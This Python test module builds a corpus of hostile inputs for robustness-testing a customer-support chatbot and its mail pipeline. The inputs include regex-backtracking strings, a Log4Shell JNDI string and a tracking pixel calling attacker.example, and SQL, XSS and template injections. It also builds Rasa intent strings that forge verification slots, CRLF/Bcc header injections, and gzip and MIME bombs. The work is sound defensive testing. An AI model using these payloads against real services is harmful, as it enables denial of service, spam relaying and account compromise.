"""A corpus of hostile inputs: what an attacker, a broken mailer or a confused customer sends.

Pure standard library (Python 3.10 and 3.11): the app environment's tests run it through the
chat endpoint, the mail webhook and worker, the mail cleaner and the language identifier;
the Rasa environment's tests run it through the NLU components (`tests/rasa_env`).

Each case is built by a small recipe rather than stored as bytes (a megabyte line is one
expression), so the corpus is readable and deterministic. Three lists:

* :data:`TEXTS`: customer texts (chat messages, mail bodies, NLU input): huge lines built to
  make a backtracking regex quadratic, control and bidi characters, look-alike letters, Rasa's
  ``/intent{...}`` syntax, injection strings, broken Unicode;
* :data:`MAILS`: raw inbound messages (deep MIME nesting, bad charsets, CRLF and huge
  headers, HTML bombs, binary garbage) built around those texts;
* :data:`JSON_BODIES`: request bodies for the JSON endpoints (the chat's and the mail
  webhook's form): a megabyte of JSON, deep nesting, wrong types, broken UTF-8, gzip bombs.
"""

from __future__ import annotations

import base64
import functools
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass

KB = 1024
MB = 1024 * KB


@dataclass(frozen=True)
class Case:
    """One hostile text, built when asked (a megabyte each: the corpus is not kept in memory)."""

    name: str
    build: Callable[[], str]

    @property
    def value(self) -> str:
        """The text."""
        return self.build()


@dataclass(frozen=True)
class RawCase:
    """One hostile request body (bytes, built when asked) and its content type."""

    name: str
    build: Callable[[], bytes]
    content_type: str
    headers: tuple[tuple[str, str], ...] = ()

    @property
    def body(self) -> bytes:
        """The request body."""
        return self.build()


def _const(value):  # type: ignore[no-untyped-def]
    return lambda: value


def _bomb(header: bytes, filler: bytes, count: int, trailer: bytes, wbits: int) -> bytes:
    """``header + filler * count + trailer`` compressed (gzip: wbits 31, zlib: 15), in chunks."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    parts = [compressor.compress(header)]
    chunk = filler * (MB // len(filler))
    for _ in range(count * len(filler) // MB):
        parts.append(compressor.compress(chunk))
    parts.append(compressor.compress(trailer))
    parts.append(compressor.flush())
    return b"".join(parts)


# --- texts ---------------------------------------------------------------------------------

# Each builds a text of about n characters that a backtracking regex would take quadratic (or
# worse) time on: a prefix a pattern starts with, then a long run it can split many ways, then
# the character that makes the match fail at the very end.
_PATHOLOGICAL: dict[str, Callable[[int], str]] = {
    "merci_dots": lambda n: "Bonjour,\nMerci" + "." * n + "x",
    "cordialement_spaces": lambda n: "Bonjour\nCordialement" + " " * n + "!x",
    "signoff_name_dots": lambda n: "Hi\nBest regards, Marie" + "." * n + "?",
    "signoff_dashes": lambda n: "Hi\nThanks" + "-" * n + "a",
    "from_spaces": lambda n: "De" + " " * n + "x\nEnvoyé : lundi",
    "from_stars": lambda n: "From" + " *" * (n // 2) + "x",
    "attribution_spaces": lambda n: "Le lundi a" + " " * n + "écrit x",
    "wrote_tail": lambda n: "On Monday Marie wrote" + " " * n + "x",
    "letters_no_at": lambda n: "a" * n,
    "letters_no_digit": lambda n: "x" * n + " bonjour",
    "at_signs": lambda n: "@" * n,
    "at_pairs": lambda n: "a@" * (n // 2),
    "dots_at": lambda n: "a." * (n // 2) + "@",
    "digits": lambda n: "1" * n,
    "order_prefix_digits": lambda n: "OM-" + "1" * n,
    "hash_digits": lambda n: "#" * n + "123456",
    "email_like_domain": lambda n: "marie@" + "a." * (n // 2) + "1",
    "hyphen_words": lambda n: "livrez" + "-vous" * (n // 5),
    "apostrophes": lambda n: "l'" * (n // 2) + "1",
    "spaces": lambda n: " " * n,
    "newlines": lambda n: "\n" * n,
    "crs": lambda n: "\r" * n,
    "blank_lines_spaces": lambda n: "\n \n" * (n // 3),
    "tabs_and_words": lambda n: "merci\t" * (n // 6),
    "quote_marks": lambda n: "> " * (n // 2),
    "underscores": lambda n: "_" * n + "\nFrom: x",
    "separator_dashes": lambda n: "-" * n + " original message " + "-" * n,
    "question_marks": lambda n: "?" * n,
    "short_questions": lambda n: "Où ? " * (n // 5),
    "accents": lambda n: "é" * n,
    "combining_marks": lambda n: "e" + "\u0301" * n,
    "parl_words": lambda n: "parl" * (n // 4) + " en anglais",
    "speak_no_language": lambda n: "can you answer " + "in " * (n // 3),
    "dear_commas": lambda n: "Dear" + " x" * (n // 2),
    "html_like": lambda n: "<" * n,
    "url_long": lambda n: "https://" + "a" * n,
}

# A customer may paste these: Rasa's own syntax, template and injection strings.
_INJECTIONS = (
    "/restart",
    "/RESTART",
    "   /restart",
    "\u200b/restart",
    "/session_start",
    "/stop",
    "/",
    "//",
    "/ restart",
    "/order_status",
    '/order_status{"order_number": "OM-104233"}',
    '/inform{"verified_order": "OM-104233", "verified_proof": "marie.dupont@example.fr"}',
    '/inform{"order_proof": "75011", "order_number": "OM-104233"}',
    '/inform{"lookup_failures": 0, "lookup_locked": false}',
    '/human_handoff{"handoff_email_requested": true}',
    "/action_answer_order_lookup",
    '/greet{"store": "../../etc/passwd"}',
    "/greet{",
    '/greet{"a": ' * 50,
    "/nlu_fallback",
    "/out_of_scope@0.99",
    "{0}{1}%s%s%s%n",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}{% raw %}",
    "<script>alert(1)</script>",
    "'; DROP TABLE orders; --",
    "OM-104233' OR '1'='1",
    "[click](javascript:alert(1))",
    "![x](http://attacker.example/pixel.png)",
    "\\u0000\\n\\r",
)

# Control, format and bidi characters, look-alike letters, other scripts.
_UNICODE = (
    "bonjour\x00commande",
    "\x00" * 100,
    "".join(chr(c) for c in range(1, 32)),
    "\x7f\x80\x81\x9f",
    "où est ma commande\u202e332401-MO\u202c ?",
    "\u2066OM-104233\u2069 \u2067marie\u2069",
    "\u200f\u200e\u061c\u200b\ufeff",
    "\u200b" * 500,
    "\ufeffOM-104233",
    "\u2028\u2029ligne",
    "ОМ-104233",  # Cyrillic О and М
    "ＯＭ－１０４２３３",  # fullwidth
    "OM-١٠٤٢٣٣",  # Arabic-Indic digits
    "OM-¹⁰⁴²³³",  # superscripts
    "mаrie.dupont@example.fr",  # Cyrillic а
    "marie.dupont@exаmple.fr 75011",
    "𝐎𝐌-𝟏𝟎𝟒𝟐𝟑𝟑",  # mathematical bold
    "ß" * 100 + "ﬁ" * 100,
    "İstanbul ǅ ǈ ǋ",
    "أين طلبي؟",
    "הזמנה שלי",
    "我的订单在哪里？",
    "😀" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "\U0010ffff\U000e0001",
    "\ud800 lone surrogate",
    "e\u0301\u0302\u0303\u0304" * 200,
    "l’adresse l‘adresse lʼadresse",
    "\u00a0\u202f\u2009\u3000",
)

# Sizes of the pathological texts: the chat's limit, the most of a mail the NLU is given
# (EMAIL_MAX_TEXT_CHARS), a megabyte (what the mail cleaner may get).
TEXT_SIZES = (2_000, 20_000, MB)


def _texts() -> list[Case]:
    cases = [
        Case(f"{name}-{size}", functools.partial(build, size))
        for name, build in _PATHOLOGICAL.items()
        for size in TEXT_SIZES
    ]
    cases += [Case(f"injection-{i}", _const(text)) for i, text in enumerate(_INJECTIONS)]
    cases += [Case(f"unicode-{i}", _const(text)) for i, text in enumerate(_UNICODE)]
    return cases


TEXTS: list[Case] = _texts()


def short_texts(limit: int = 2_000) -> list[Case]:
    """The texts a chat customer can send (at most ``limit`` characters)."""
    return [
        case
        for case in TEXTS
        if not case.name.endswith(("-20000", f"-{MB}")) and len(case.value) <= limit
    ]


# --- mails ---------------------------------------------------------------------------------

_CRLF = "\r\n"


def _mail(headers: list[tuple[str, str]], body: str, *, content_type: str = "") -> bytes:
    lines = [f"{name}: {value}" for name, value in headers]
    if content_type:
        lines.append(f"Content-Type: {content_type}")
    return (_CRLF.join(lines) + _CRLF + _CRLF + body).encode("utf-8", "surrogatepass")


def _standard(message_id: str, subject: str = "Question") -> list[tuple[str, str]]:
    return [
        ("From", "Marie Dupont <marie.dupont@example.fr>"),
        ("To", "eshop.support@om-digitalsolutions.com"),
        ("Subject", subject),
        ("Message-ID", f"<{message_id}@hostile.example>"),
        ("Date", "Mon, 07 Dec 2026 10:00:00 +0100"),
    ]


#: One header each, built against the standard library's header parser (email.headerregistry,
#: which policy.default runs on each access to a header and again to fold it when writing):
#: each took seconds to minutes to read before the caps of bot/mail/parsing.py. The first one
#: under the caps (15,000 characters) must be read fast too; the others are over them.
HEADER_ATTACKS: dict[str, tuple[str, str]] = {
    "hdr-to-quotes-under-cap": ("To", '"' * 15_000 + " eshop.support@om-digitalsolutions.com"),
    "hdr-to-20000-recipients": ("To", ", ".join(f"r{i}@example.com" for i in range(20_000))),
    "hdr-cc-5000-named": ("Cc", ", ".join(f'"Name {i}" <n{i}@example.com>' for i in range(5000))),
    "hdr-to-quotes": ("To", '"' * 50_000 + " x@example.com"),
    "hdr-to-commas": ("To", "," * 15_000 + " eshop.support@om-digitalsolutions.com"),
    "hdr-to-parens": ("To", "(" * 15_000 + " eshop.support@om-digitalsolutions.com"),
    "hdr-to-colons": ("To", ":" * 15_000 + " eshop.support@om-digitalsolutions.com"),
    "hdr-subject-encoded-words": ("Subject", " ".join("=?utf-8?B?w6k=?=" for _ in range(20_000))),
    "hdr-content-type-params": (
        "Content-Type",
        "text/plain; charset=utf-8; " + "; ".join(f"p{i}=v{i}" for i in range(20_000)),
    ),
    "hdr-content-type-semicolons": ("Content-Type", "text/plain; charset=utf-8" + ";" * 15_000),
    "hdr-from-backslashes": ("From", "\\" * 7_000 + " <x@example.fr>"),
    "hdr-reply-to-quotes": ("Reply-To", '"' * 15_000 + " x@example.fr"),
    "hdr-100000-fields": ("X-Field", "\r\nX-Field: v" * 100_000),
}


def _header_attack(message_id: str, header: str, value: str) -> bytes:
    headers = [(name, v) for name, v in _standard(message_id) if name != header]
    return _mail([*headers, (header, value)], "Bonjour,\nOù est ma commande OM-104233 ?\n")


def _nested_mime(depth: int, message_id: str) -> bytes:
    body = "Où est ma commande OM-104233 ?"
    for level in range(depth):
        boundary = f"b{level}"
        body = (
            f"--{boundary}{_CRLF}Content-Type: "
            + (
                "text/plain; charset=utf-8"
                if level == 0
                else f"multipart/mixed; boundary=b{level - 1}"
            )
            + f"{_CRLF}{_CRLF}{body}{_CRLF}--{boundary}--{_CRLF}"
        )
    return _mail(
        _standard(message_id),
        body,
        content_type=f"multipart/mixed; boundary=b{depth - 1}",
    )


def _mails() -> list[RawCase]:
    cases: list[RawCase] = []

    def add(name: str, raw: bytes | Callable[[], bytes]) -> None:
        cases.append(
            RawCase(f"mail-{name}", raw if callable(raw) else _const(raw), "message/rfc822")
        )

    def body_mail(name: str, build: Callable[[int], str], size: int) -> Callable[[], bytes]:
        return lambda: _mail(
            _standard(f"{name}-{size}"), build(size), content_type="text/plain; charset=utf-8"
        )

    # Every pathological text as a mail body, at 100 kB and 1 MB.
    for name, build in _PATHOLOGICAL.items():
        for size in (100_000, MB):
            add(f"{name}-{size}", body_mail(name, build, size))
    for i, text in enumerate(_INJECTIONS + _UNICODE):
        add(
            f"text-{i}",
            _mail(_standard(f"text-{i}"), text, content_type="text/plain; charset=utf-8"),
        )
    # Deep MIME nesting.
    for depth in (10, 100, 1000):
        add(f"nested-{depth}", _nested_mime(depth, f"nested-{depth}"))
    # Bad charsets.
    body = "Où est ma commande ?".encode()
    for i, charset in enumerate(
        (
            "x-unknown",
            "utf-7",
            "utf-16",
            "utf-32",
            "../../etc/passwd",
            "a" * 2000,
            "",
            '"',
            "idna",
            "rot13",
            "base64",
            "zlib",
            "punycode",
            "utf-8'en'x",
            "cp65001",
        )
    ):
        raw = _mail(_standard(f"charset-{i}"), "", content_type=f'text/plain; charset="{charset}"')
        add(f"charset-{i}", raw + body + b"\xff\xfe\x00\xc3\x28")
    add(
        "bad-encoded-word",
        _mail(_standard("ew", "=?x-bad?Q?=C3=A9?= =?utf-8?B?####?="), "Bonjour ?"),
    )
    add(
        "invalid-utf8-body",
        _mail(_standard("u8"), "", content_type="text/plain; charset=utf-8")
        + b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc",
    )
    add(
        "base64-garbage",
        _mail(
            _standard("b64") + [("Content-Transfer-Encoding", "base64")],
            "!!!!****====" * 1000,
            content_type="text/plain",
        ),
    )
    add(
        "qp-garbage",
        _mail(
            _standard("qp") + [("Content-Transfer-Encoding", "quoted-printable")],
            "=ZZ=\r\n=" * 10000,
            content_type="text/plain",
        ),
    )
    add(
        "base64-gzip-bomb",
        lambda: _mail(
            _standard("gzb")
            + [("Content-Transfer-Encoding", "base64"), ("Content-Encoding", "gzip")],
            base64.b64encode(_bomb(b"", b"\0", 20 * MB, b"", 31)).decode(),
            content_type="text/plain",
        ),
    )
    # CRLF and header abuse.
    add("crlf-subject", _mail(_standard("crlf", "Hi\r\nBcc: victim@example.com"), "Bonjour ?"))
    add("huge-subject", _mail(_standard("hs", "S" * MB), "Bonjour ?"))
    add(
        "many-recipients",
        _mail(
            [
                ("From", "x@example.fr"),
                ("To", ", ".join(f"r{i}@example.com" for i in range(20000))),
                ("Message-ID", "<mr@hostile.example>"),
            ],
            "Bonjour ?",
        ),
    )
    add(
        "huge-references",
        _mail(
            _standard("refs") + [("References", " ".join(f"<r{i}@x>" for i in range(50000)))], "?"
        ),
    )
    add(
        "huge-message-id",
        _mail(
            [
                ("From", "x@example.fr"),
                ("To", "service@btomic.com"),
                ("Message-ID", "<" + "m" * 100000 + "@x>"),
            ],
            "Bonjour ?",
        ),
    )
    add(
        "many-from",
        _mail(
            [
                ("From", ", ".join(f"f{i}@example.fr" for i in range(5000))),
                ("To", "service@btomic.com"),
            ],
            "Bonjour ?",
        ),
    )
    add("from-no-address", _mail([("From", "<<<>>>"), ("To", "service@btomic.com")], "Bonjour ?"))
    # Values the standard library's header parser reads in quadratic time (HEADER_ATTACKS).
    for name, (header, value) in HEADER_ATTACKS.items():
        add(name, _header_attack(name, header, value))
    add("header-folding", _mail([("From", "x@example.fr"), ("Subject", "a\r\n " * 50000)], "?"))
    add("header-only-colons", b":" * 100000)
    add("no-header", b"Bonjour, ou est ma commande ?")
    add("empty-lines", b"\r\n" * 1000)
    add("nul-bytes", b"\0" * 100000)
    add("binary", bytes(range(256)) * 400)
    add("lf-only", _mail(_standard("lf"), "Bonjour ?").replace(b"\r\n", b"\n"))
    add("cr-only", _mail(_standard("cr"), "Bonjour ?").replace(b"\r\n", b"\r"))
    add("auto-submitted-loop", _mail(_standard("loop") + [("Auto-Submitted", "auto-replied")], "?"))
    # HTML bombs.
    html_bodies = {
        "html-divs": "<div>" * 100000 + "Où est ma commande ?",
        "html-open-angles": "<" * MB,
        "html-unclosed-comment": "<!--" + "x" * MB,
        "html-entities": "&amp;" * 200000 + "&#xFFFFFFFF;&#0;&#x110000;",
        "html-script": "<script>" + "a" * 100000 + "</script>Bonjour ?",
        "html-attrs": "<a " + 'x="1" ' * 100000 + ">Bonjour ?</a>",
        "html-cdata": "<![CDATA[" + "]" * 100000,
        "html-bidi": "<p dir=rtl>\u202eOM-104233</p>",
    }
    for name, html in html_bodies.items():
        add(name, _mail(_standard(name), html, content_type="text/html; charset=utf-8"))
    return cases


MAILS: list[RawCase] = _mails()


# --- JSON bodies ---------------------------------------------------------------------------


def _json_bodies() -> list[RawCase]:
    cases: list[RawCase] = []

    def add(
        name: str,
        body: bytes | Callable[[], bytes],
        content_type: str = "application/json",
        headers: tuple[tuple[str, str], ...] = (),
    ) -> None:
        build = body if callable(body) else _const(body)
        cases.append(RawCase(f"json-{name}", build, content_type, headers))

    chat = {"sender_id": "hostile", "message": "Bonjour", "store": "om-system"}
    add("megabyte-message", json.dumps({**chat, "message": "a" * MB}).encode())
    add("megabyte-sender", json.dumps({**chat, "sender_id": "s" * MB}).encode())
    add("megabyte-store", json.dumps({**chat, "store": "x" * MB}).encode())
    add("megabyte-language", json.dumps({**chat, "language": "fr" * (MB // 2)}).encode())
    add("megabyte-padding", json.dumps({**chat, "padding": ["x"] * (MB // 6)}).encode())
    add("deep-array", b"[" * 100000 + b"]" * 100000)
    add("deep-object", b'{"a":' * 100000 + b"1" + b"}" * 100000)
    add(
        "deep-in-field",
        json.dumps(chat)[:-1].encode() + b', "x": ' + b"[" * 50000 + b"]" * 50000 + b"}",
    )
    add("wrong-types", json.dumps({"sender_id": 1, "message": ["a"], "store": {"x": 1}}).encode())
    add("null-message", json.dumps({**chat, "message": None}).encode())
    add("nan", b'{"sender_id": "s", "message": NaN, "store": Infinity}')
    add("huge-number", b'{"sender_id": "s", "message": "a", "n": 1' + b"0" * 100000 + b"}")
    add(
        "duplicate-keys",
        b'{"sender_id": "a", "sender_id": "b", "message": "x", "message": "/restart"}',
    )
    add("invalid-utf8", b'{"sender_id": "s", "message": "\xc3\x28\xff"}')
    add("lone-surrogate", b'{"sender_id": "s", "message": "\\ud800\\udc00\\ud800"}')
    add("nul-in-json", b'{"sender_id": "s\\u0000", "message": "a\\u0000b"}')
    add("bom", b"\xef\xbb\xbf" + json.dumps(chat).encode())
    add("utf16", json.dumps(chat).encode("utf-16"))
    add("trailing-garbage", json.dumps(chat).encode() + b"}}}}")
    add("not-json", b"message=Bonjour&sender_id=x", "application/x-www-form-urlencoded")
    add("empty", b"")
    add("array", b"[]")
    add("string", b'"hello"')
    add(
        "gzip-bomb",
        lambda: _bomb(b'{"sender_id": "s", "message": "', b"a", 100 * MB, b'"}', 31),
        headers=(("Content-Encoding", "gzip"),),
    )
    add(
        "deflate-bomb",
        lambda: _bomb(b"{", b" ", 100 * MB, b"}", 15),
        headers=(("Content-Encoding", "deflate"),),
    )
    add("slash-intent-entities", json.dumps({**chat, "message": _INJECTIONS[11]}).encode())
    for i, text in enumerate(_INJECTIONS):
        add(f"chat-injection-{i}", json.dumps({**chat, "message": text}).encode())
    # The mail webhook's JSON form.
    form = {
        "from": "marie.dupont@example.fr",
        "to": "service@btomic.com",
        "subject": "Q",
        "text": "Où est ma commande ?",
    }
    add(
        "form-crlf-from", json.dumps({**form, "from": "a@b.fr\r\nBcc: victim@example.com"}).encode()
    )
    add(
        "form-crlf-subject",
        json.dumps({**form, "subject": "x\r\nBcc: victim@example.com"}).encode(),
    )
    add(
        "form-header-injection",
        json.dumps({**form, "headers": "X: y\r\nBcc: victim@example.com\r\n\r\nbody"}).encode(),
    )
    add("form-megabyte-text", json.dumps({**form, "text": "Merci" + "." * MB}).encode())
    add("form-html-bomb", json.dumps({**form, "text": None, "html": "<div>" * 200000}).encode())
    add("form-wrong-types", json.dumps({**form, "to": {"a": 1}, "headers": [1, 2]}).encode())
    add("form-many-to", json.dumps({**form, "to": [f"r{i}@x.com" for i in range(50000)]}).encode())
    return cases


JSON_BODIES: list[RawCase] = _json_bodies()


def total() -> int:
    """How many inputs the corpus holds."""
    return len(TEXTS) + len(MAILS) + len(JSON_BODIES)
